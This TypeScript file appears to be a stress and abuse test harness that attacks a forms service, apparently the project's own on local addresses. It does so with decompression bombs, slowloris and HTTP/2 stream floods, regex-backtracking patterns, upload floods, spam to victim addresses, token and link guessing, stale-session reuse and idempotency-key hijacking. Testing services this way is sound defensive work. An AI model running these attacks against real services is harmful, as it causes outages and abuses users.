import { request as httpRequest } from 'node:http';
import { type ClientHttp2Stream, connect as connectHttp2 } from 'node:http2';
import { connect as connectTcp, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { brotliCompressSync, constants, gzipSync } from 'node:zlib';
import { envelope } from '../support/wire.ts';

/**
 * Attacks the service that its argument names (`Targets` as JSON), in every way at once and from several
 * addresses, until it is killed. What the service answers is of no interest to an attacker, nor is a
 * connection that is refused: failures are passed over, and the next attempt follows.
 */
const targets: Targets = JSON.parse(process.argv[2] ?? '');
const { url, grpcUrl, formId, uploadForm, silentUrl, savingForm, sessions, former } = targets;
const ADDRESSES = 8;
const json = { 'content-type': 'application/json' };
const urlencoded = { 'content-type': 'application/x-www-form-urlencoded' };
const { hostname: host, port } = new URL(url);
/** 14 MiB of `[],`, in a few bytes. */
const manyLists = Buffer.from(`{"answers":[${'[],'.repeat(4_900_000)}0]}`);
const brotliBomb = brotliCompressSync(manyLists, { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } });
const gzipBomb = gzipSync(manyLists);
const uploadBody = Buffer.concat([
  Buffer.from('--cut\r\ncontent-disposition: form-data; name="field"\r\n\r\ncv\r\n'),
  Buffer.from('--cut\r\ncontent-disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.7\n'),
  Buffer.alloc(9 * 2 ** 20),
  Buffer.from('\r\n--cut--\r\n'),
]);
const mebibyte = Buffer.alloc(2 ** 20);

const attacks: Record<string, { parallel: number; attempt: (attempt: number) => Promise<unknown> }> = {
  messageBombs: {
    parallel: 4,
    attempt: (attempt) => {
      const [encoding, body] = attempt % 2 === 0 ? ['br', brotliBomb] : ['gzip', gzipBomb];
      const path = `/headlessforms.v1.FormsService/${attempt % 3 === 0 ? 'ListForms' : 'CreateForm'}`;
      return send(attempt, 'POST', path, body, { ...json, 'content-encoding': encoding });
    },
  },
  grpcBombs: {
    parallel: 2,
    attempt: (attempt) =>
      overHttp2(attempt, 20, (stream) => stream.end(envelope(gzipBomb, 1)), { 'grpc-encoding': 'gzip' }),
  },
  unendedStreams: {
    parallel: 2,
    attempt: (attempt) => overHttp2(attempt, 100, (stream) => stream.write(mebibyte), {}, 10_000),
  },
  largeJson: {
    parallel: 4,
    attempt: (attempt) =>
      send(attempt, 'POST', `/api/forms/${formId}/submissions`, manyLists.subarray(0, 2 ** 18 - 10), json),
  },
  patterns: { parallel: 2, attempt: submitToDearPatterns },
  slowHeaders: {
    parallel: 2,
    attempt: (attempt) => heldOpen(attempt, 300, 'POST /api/forms/create HTTP/1.1\r\nHost: x\r\nX-A: '),
  },
  slowBodies: {
    parallel: 2,
    attempt: (attempt) =>
      heldOpen(
        attempt,
        100,
        `POST /api/forms/${formId}/submissions HTTP/1.1\r\nHost: x\r\nContent-Length: 200000\r\n\r\n{`,
      ),
  },
  uploadsToNothing: {
    parallel: 8,
    attempt: (attempt) => upload(attempt, 'form_00000000000000000000000000'),
  },
  uploads: { parallel: 2, attempt: (attempt) => upload(attempt, uploadForm) },
  keylessForms: { parallel: 2, attempt: submitToSilentReceiver },
  mails: { parallel: 2, attempt: mailAVictim },
  wrongKeys: {
    parallel: 2,
    attempt: (attempt) =>
      send(attempt, 'GET', '/v1/forms', undefined, {
        authorization: `Bearer hfs_${'x'.repeat(40)}${attempt}`,
      }),
  },
  guessedLinks: { parallel: 2, attempt: followGuessedLinks },
  unknownIds: { parallel: 2, attempt: askForUnknownIds },
  handedOver: { parallel: 2, attempt: useWhatEnded },
  savedSessions: { parallel: 4, attempt: saveAgainAndAgain },
  guessedKeys: {
    parallel: 4,
    // Those of the others, before they use them and after.
    attempt: (attempt) =>
      sendJson(
        attempt,
        `/api/forms/${formId}/submissions`,
        { answers: { email: 'a@b.example', message: 'Not yours' } },
        { 'idempotency-key': `client-${attempt % 50}-${Math.floor(attempt / 50)}` },
      ),
  },
  spam: {
    parallel: 4,
    attempt: (attempt) =>
      sendJson(attempt, `/api/forms/${formId}/submissions`, {
        answers: { email: 'a@b.example', message: 'buy' },
      }),
  },
};

for (const { parallel, attempt } of Object.values(attacks)) {
  for (let worker = 0; worker < parallel; worker += 1) void repeat(attempt, worker, parallel);
}

async function repeat(
  attempt: (attempt: number) => Promise<unknown>,
  first: number,
  step: number,
): Promise<never> {
  for (let count = first; ; count += step) {
    await attempt(count).catch(() => undefined);
    // One core is the service's: without a pause this process would starve it, whatever it sent.
    await sleep(10);
  }
}

/** A form made without a key, with patterns that are dear to match, and an answer that makes them so. */
async function submitToDearPatterns(attempt: number): Promise<void> {
  const large = attempt % 2 === 0;
  const maxLength = large ? 430 : 5_000;
  // Close to the steps that a form may take.
  const fields = Array.from({ length: 5 }, (_, index) => ({
    id: `f${index}`,
    type: 'text',
    pattern: large ? '(?:[ab]*a[ab]{200}|.*b[ab]{200})c' : '(?:[ab]*a[ab]{20})c',
    maxLength,
  }));
  const form = await keylessForm(attempt, { fields });
  const answers = Object.fromEntries(fields.map(({ id }) => [id, 'ab'.repeat(maxLength / 2)]));
  for (let count = 0; count < 50; count += 1)
    await sendJson(attempt, `/api/forms/${form}/submissions`, { answers });
}

/** A form made without a key whose webhook is taken and never answered. */
async function submitToSilentReceiver(attempt: number): Promise<void> {
  const form = await keylessForm(attempt, {
    delivery: { type: 'webhook', url: `${silentUrl}/${attempt}`, secret: 'a stranger knows it' },
  });
  for (let count = 0; count < 50; count += 1) {
    await sendJson(attempt, `/api/forms/${form}/submissions`, { answers: { line: 'x'.repeat(1_000) } });
  }
}

async function mailAVictim(attempt: number): Promise<void> {
  const form = await keylessForm(
    attempt,
    { name: 'Win at http://203.0.113.9/ now' },
    `victim+${attempt}@example.org`,
  );
  for (let count = 0; count < 20; count += 1) {
    await sendJson(attempt, `/api/forms/${form}/submissions`, { answers: { line: 'Look at evil.example' } });
  }
}

/** Makes and publishes a form without a key; gives its id. */
async function keylessForm(attempt: number, definition: object, email = 'o@example.org'): Promise<string> {
  const fields = [{ id: 'line', type: 'text' }];
  const created = await sendJson(attempt, '/api/forms/create', {
    name: 'Theirs',
    slug: 'theirs',
    fields,
    delivery: { type: 'email' },
    ...definition,
  });
  const { form } = JSON.parse(created) as { form: { id: string; activate_url: string } };
  await sendJson(attempt, form.activate_url, { email });
  return form.id;
}

/** Links as they are mailed, with tokens that nobody was mailed. */
async function followGuessedLinks(attempt: number): Promise<void> {
  const value = Buffer.from(JSON.stringify([formId, 'owner@example.com'])).toString('base64url');
  const mac = String(attempt).padStart(43, 'A');
  for (const path of [
    `/mail/confirm-owner.${value}.zzzzzz.${mac}`,
    `/mail/change-owner.${value}.zzzzzz.${mac}`,
    `/owner/sign-in/${value}.zzzzzz.${mac}`,
    `/files/${value}.zzzzzz.${mac}`,
    `/api/forms/${formId}/activate?token=${mac}`,
  ]) {
    await send(attempt, 'GET', path, undefined, {});
    await send(attempt, 'POST', path, Buffer.from('email=a%40b.example'), { ...urlencoded, origin: url });
  }
}

async function askForUnknownIds(attempt: number): Promise<void> {
  const id = String(attempt).padStart(26, '0');
  await send(attempt, 'GET', `/f/form_${id}`, undefined, {});
  await send(attempt, 'GET', `/s/sess_${id}`, undefined, {});
  await send(attempt, 'POST', `/s/sess_${id}`, Buffer.from('email=a%40b.example'), urlencoded);
  await sendJson(attempt, `/api/forms/form_${id}/submissions`, { answers: {} });
  await sendJson(attempt, '/headlessforms.v1.FormsService/GetActivation', { formId: `form_${id}` });
}

/** As the former owner of a form that has another: by the session, and by the links that they were mailed. */
async function useWhatEnded(attempt: number): Promise<void> {
  const authorization = `Bearer ${former.session}`;
  for (const method of ['ListOwnedSubmissions', 'GetOwnedForm', 'OfferOwnedForm', 'ExportOwnedSubmissions']) {
    const path = `/headlessforms.v1.OwnersService/${method}`;
    await sendJson(attempt, path, { formId: former.formId, email: 'eve@example.com' }, { authorization });
  }
  for (const link of former.links)
    await send(attempt, 'POST', link, Buffer.from(''), { ...urlencoded, origin: url });
}

/** Large answers, which differ each time, saved in sessions: in one of a link that they have, and in one of a visitor. */
async function saveAgainAndAgain(attempt: number): Promise<void> {
  const message = String(attempt).padEnd(9_000, 'x');
  const inputs = new URLSearchParams({ _go: 'save', _shown: 'message', message });
  const body = Buffer.from(inputs.toString());
  for (const path of [sessions[attempt % sessions.length] ?? '', `/f/${savingForm}`])
    await send(attempt, 'POST', path, body, { ...urlencoded, accept: 'application/json' });
}

function upload(attempt: number, form: string): Promise<string> {
  const type = 'multipart/form-data; boundary=cut';
  return send(attempt, 'POST', `/api/forms/${form}/uploads`, uploadBody, { 'content-type': type });
}

function sendJson(attempt: number, path: string, body: object, headers = {}): Promise<string> {
  return send(attempt, 'POST', path, Buffer.from(JSON.stringify(body)), { ...json, ...headers });
}

/** One request on a connection of its own; gives the reply's text. */
function send(
  attempt: number,
  method: string,
  path: string,
  body: Buffer | undefined,
  headers: Record<string, string | undefined>,
): Promise<string> {
  return new Promise((resolve, reject) => {
    const length = body === undefined ? {} : { 'content-length': body.length };
    const request = httpRequest(
      new URL(path, url),
      { method, agent: false, localAddress: addressOf(attempt), headers: { ...headers, ...length } },
      (response) => {
        let text = '';
        response.setEncoding('utf8').on('data', (part: string) => (text += part));
        response.once('close', () => resolve(text));
      },
    ).once('error', reject);
    request.setTimeout(30_000, () => request.destroy());
    request.end(body);
  });
}

/** Opens so many streams of one connection, and holds it for a while. */
async function overHttp2(
  attempt: number,
  streams: number,
  use: (stream: ClientHttp2Stream) => unknown,
  headers: Record<string, string>,
  heldMs = 200,
): Promise<void> {
  const socket = connectTcp({ host, port: Number(new URL(grpcUrl).port), localAddress: addressOf(attempt) });
  const session = connectHttp2(grpcUrl, { createConnection: () => socket });
  session.on('error', () => {});
  for (let count = 0; count < streams; count += 1) {
    const stream = session.request({
      ':method': 'POST',
      ':path': '/headlessforms.v1.SubmissionsService/CreateSubmission',
      'content-type': 'application/grpc',
      te: 'trailers',
      ...headers,
    });
    stream.on('error', () => {});
    stream.resume();
    use(stream);
  }
  await sleep(heldMs);
  session.destroy();
}

/** Opens so many connections that send a little and then nothing, and holds them for a while. */
async function heldOpen(attempt: number, connections: number, text: string): Promise<void> {
  const sockets: Socket[] = [];
  for (let count = 0; count < connections; count += 1) {
    const socket = connectTcp({ host, port: Number(port), localAddress: addressOf(attempt) });
    socket.on('error', () => {});
    socket.write(text);
    sockets.push(socket);
  }
  await sleep(5_000);
  for (const socket of sockets) socket.destroy();
}

function addressOf(attempt: number): string {
  return `127.0.2.${(attempt % ADDRESSES) + 1}`;
}

export type Targets = {
  url: string;
  grpcUrl: string;
  formId: string;
  /** The id of a form that takes files. */
  uploadForm: string;
  /** Where calls are taken and never answered. */
  silentUrl: string;
  /** A form whose visitors may save answers. */
  savingForm: string;
  /** The paths of sessions of it, whose links they have. */
  sessions: string[];
  /** What the former owner of a form has left: a session, and links that they were mailed. */
  former: { formId: string; session: string; links: string[] };
};
